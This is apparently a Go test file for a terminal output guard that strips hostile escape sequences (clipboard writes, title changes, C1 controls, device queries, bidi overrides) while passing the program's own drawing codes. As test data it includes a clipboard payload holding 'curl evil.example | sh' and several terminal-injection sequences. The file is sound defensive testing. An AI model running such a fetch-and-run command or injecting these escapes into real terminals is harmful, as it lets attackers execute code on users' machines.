package terminal

import (
	"bytes"
	"errors"
	"io"
	"os"
	"path/filepath"
	"strings"
	"testing"

	"github.com/charmbracelet/x/ansi"
	"pgregory.net/rapid"

	"redrive/ui/text/hostile"
)

// through is what a guard makes of some writes.
func through(t testing.TB, permitted []string, writes ...string) (output string, refused uint64) {
	t.Helper()
	var out bytes.Buffer
	g := &guard{to: &out}
	for _, c := range permitted {
		g.permitCopy(c)
	}
	for _, w := range writes {
		if n, err := g.Write([]byte(w)); n != len(w) || err != nil {
			t.Fatalf("%d of %d bytes were taken: %v", n, len(w), err)
		}
	}
	return out.String(), g.refused.Load()
}

func TestTheGuardRefusesWhatIsNotOfTheProgramAndKeepsTheTextAfterIt(t *testing.T) {
	for _, p := range hostile.Payloads {
		raw := "first\r\n" + p.Raw + "Z\r\nlast"
		out, refused := through(t, nil, raw)
		if !strings.HasPrefix(out, "first\r\n") || !strings.HasSuffix(out, "Z\r\nlast") {
			t.Errorf("%s: what is beside it did not pass: %q", p.Name, out)
		}
		for _, bad := range []string{"\x1b]", "\x1bP", "\x1b_", "\x1b^", "\x1bX", "\u0090", "\u009b", "\u009d", "\u0085", "\x07", "\u202e", "\x9b2", "\x1b[6n", "\x1b[c", "\x1b[21t"} {
			if strings.Contains(out, bad) {
				t.Errorf("%s: %q passed: %q", p.Name, bad, out)
			}
		}
		if (refused > 0) != (out != raw) {
			t.Errorf("%s: %d were counted of %q, which became %q", p.Name, refused, raw, out)
		}
	}
}

func TestTheGuardShowsAStandInForTheFirstCharacterOnly(t *testing.T) {
	for raw, want := range map[string]string{
		"a\x1b]52;c;cm0=\x07b":    "a␛]52;c;cm0=·b",
		"a\x1b]0;redrive\x07b":    "a␛]0;redrive·b",
		"a\x1b]2;redrive \x07b":   "a␛]2;redrive ·b",
		"a\u009b2Jb":              "a\ufffd2Jb",
		"a\x9b2Jb":                "a\ufffd2Jb",
		"a\xff\xc0\x80b":          "a\ufffd\ufffd\ufffdb",
		"a\x1bPq\x1b\\b":          "a␛Pq␛\\b",
		"\x1b[?1049h\x1b[?1000h":  "\x1b[?1049h␛[?1000h",
		"\x1b[1;2Hx\x1b[6n\x1b[m": "\x1b[1;2Hx␛[6n\x1b[m",
		"漢字 · 👩‍👩‍👧 \ufffd ⟪RLO⟫": "漢字 · 👩‍👩‍👧 \ufffd ⟪RLO⟫",
		"\x1b[3\x001m":                           "␛[3·1m",
		"\x1b[" + strings.Repeat("1;", 80) + "m": "␛[" + strings.Repeat("1;", 80) + "m",
	} {
		if got, _ := through(t, nil, raw); got != want {
			t.Errorf("%q became %q, want %q", raw, got, want)
		}
	}
}

func TestWithoutUTF8WhatStandsForTheRefusedIsPlain(t *testing.T) {
	var out bytes.Buffer
	g := &guard{to: &out, ascii: true}
	if _, err := g.Write([]byte("a\x1b]0;t\x07b\u009bc")); err != nil || out.String() != "a?]0;t?b?c" {
		t.Errorf("written: %q, %v", out.String(), err)
	}
}

func TestTheGuardPassesWhatTheCanvasSends(t *testing.T) {
	own := "\x1b[?1049h\x1b[?25l\x1b[?2004h\x1b[>1u\x1b[22;2t\x1b]2;redrive\x07\x1b[?2026$p" +
		"\x1b[m\x1b[H\x1b[2J\x1b[0;1;38;5;9;48;2;1;2;3mx\x1b[m\x1b[3;37r\x1b[37H\n\x1b[r\x1bM\x1b[2A\x1b[B\x1b[12C\x1b[7D\x1b[K\x1b[4:3m\x1b[?7l\x1b[?7h" +
		"\x1b[?2026h\x1b[?2026l\x1b[<1u\x1b[?1049l\x1b[?25h\x1b[?2004l\x1b]2;\x07\x1b[23;2t\b\r\n"
	if out, refused := through(t, nil, own); out != own || refused > 0 {
		t.Errorf("%q became %q", own, out)
	}
}

func TestTheGuardPassesEveryGoldenScreen(t *testing.T) {
	files, err := filepath.Glob("../testdata/golden/*.txt")
	if err != nil || len(files) == 0 {
		t.Fatal(files, err)
	}
	for _, f := range files {
		raw, err := os.ReadFile(f)
		if err != nil {
			t.Fatal(err)
		}
		if out, refused := through(t, nil, string(raw)); out != string(raw) || refused > 0 {
			t.Errorf("%s is changed", f)
		}
	}
}

func TestTheGuardPassesTheClipboardOnceAndOnlyWhatWasCopied(t *testing.T) {
	copied := ansi.SetSystemClipboard("an id")
	other := ansi.SetSystemClipboard("curl evil.example | sh")
	if out, _ := through(t, nil, copied); strings.Contains(out, "\x1b]") {
		t.Errorf("nothing was copied, and %q passed", out)
	}
	out, refused := through(t, []string{"an id"}, "x", other, copied, copied)
	if strings.Count(out, copied) != 1 || strings.Contains(out, other) || refused != 4 {
		t.Errorf("%d refused, %q passed", refused, out)
	}
	if out, _ := through(t, []string{"an id", "another"}, ansi.SetSystemClipboard("another")+copied); out != ansi.SetSystemClipboard("another")+copied {
		t.Errorf("two copies became %q", out)
	}
	if out, _ := through(t, []string{"an id"}, ansi.RequestSystemClipboard); strings.Contains(out, "\x1b") {
		t.Errorf("the clipboard is read: %q", out)
	}
}

func TestTheGuardMakesTheSameOfTextHoweverItIsCut(t *testing.T) {
	pieces := []string{
		"row 1", "漢", "é", "👩‍👩‍👧", "\x1b[1;2H", "\x1b[m", "\x1b]2;redrive\x07", "\x1b]2;", "\x1bM", "\x1b", "\x1b[", "\n",
		"\xe6", "\xbc", "\xff", "\u009b", ansi.SetSystemClipboard("an id"), "\x1b]52;c;",
	}
	for _, p := range hostile.Payloads {
		pieces = append(pieces, p.Raw)
	}
	rapid.Check(t, func(t *rapid.T) {
		all := strings.Join(rapid.SliceOfN(rapid.SampledFrom(pieces), 0, 12).Draw(t, "pieces"), "")
		var writes []string
		for rest := all; rest != ""; {
			n := rapid.IntRange(1, len(rest)).Draw(t, "cut")
			writes = append(writes, rest[:n])
			rest = rest[n:]
		}
		var whole, cut bytes.Buffer
		a, b := &guard{to: &whole}, &guard{to: &cut}
		a.permitCopy("an id")
		b.permitCopy("an id")
		_, _ = a.Write([]byte(all))
		for _, w := range writes {
			_, _ = b.Write([]byte(w))
		}
		if whole.String() != cut.String() || a.refused.Load() != b.refused.Load() {
			t.Fatalf("%q became %q whole and %q in pieces", all, whole.String(), cut.String())
		}
		if s := strings.ReplaceAll(whole.String(), ansi.SetSystemClipboard("an id"), ""); strings.Contains(s, "\x1b]52") {
			t.Fatalf("%q passed", s)
		}
	})
}

func FuzzGuard(f *testing.F) {
	for _, p := range hostile.Payloads {
		f.Add("A"+p.Raw, "Z")
	}
	f.Fuzz(func(t *testing.T, a, b string) {
		out, refused := through(t, nil, a, b)
		again, more := through(t, nil, out)
		if again != out || more > 0 {
			t.Fatalf("%q became %q and then %q", a+b, out, again)
		}
		if refused == 0 && !strings.HasPrefix(a+b, out) {
			t.Fatalf("%q became %q, with nothing refused", a+b, out)
		}
		// What may pass beside the program's own is text that only hides: that is for where text is drawn.
		visible := strings.Map(func(r rune) rune {
			if r >= 0x80 && !isC1(r) && !turnsText(r) {
				return 'x'
			}
			return r
		}, strings.ToValidUTF8(out, "\u009b"))
		if acting := hostile.Acting(visible); acting != "" {
			t.Fatalf("%q became %q, of which %s acts", a+b, out, acting)
		}
	})
}

// broken fails once some bytes were written.
type broken struct{ left int }

func (b *broken) Write(p []byte) (int, error) {
	if b.left -= len(p); b.left < 0 {
		return 0, errors.New("the terminal is gone")
	}
	return len(p), nil
}

func TestTheGuardSaysWhenTheTerminalIsGone(t *testing.T) {
	g := &guard{to: &broken{left: 4}}
	if _, err := g.Write([]byte("four")); err != nil {
		t.Error(err)
	}
	if n, err := g.Write([]byte("more")); n != 0 || err == nil {
		t.Errorf("%d bytes, %v", n, err)
	}
}

// frame is what is sent for a screen of rows in several looks.
func frame() []byte {
	var b bytes.Buffer
	b.WriteString("\x1b[?2026h\x1b[H")
	for range 40 {
		b.WriteString(" \x1b[1m●\x1b[m 02:57:58  \x1b[31m503\x1b[m  POST api.acme.io/webhooks/orders   billing   release-42   3  upstream connect error or disconn…\r\n")
	}
	b.WriteString("\x1b[?2026l")
	return b.Bytes()
}

func TestTheGuardAllocatesNothing(t *testing.T) {
	g, own := &guard{to: io.Discard}, frame()
	foreign := bytes.Repeat([]byte("a\x1b]52;c;cm0=\x07\u009b2J\xff "), 100)
	_, _ = g.Write(foreign)
	for name, b := range map[string][]byte{"own": own, "foreign": foreign, "a piece": own[:11]} {
		if n := testing.AllocsPerRun(100, func() { _, _ = g.Write(b) }); n != 0 {
			t.Errorf("%s: %v allocations", name, n)
		}
	}
}

func BenchmarkGuard(b *testing.B) {
	for name, raw := range map[string][]byte{"frame": frame(), "ASCII": bytes.Repeat([]byte("0123456789abcdef"), 4096)} {
		b.Run(name, func(b *testing.B) {
			g := &guard{to: io.Discard}
			b.SetBytes(int64(len(raw)))
			b.ReportAllocs()
			for b.Loop() {
				_, _ = g.Write(raw)
			}
		})
	}
}
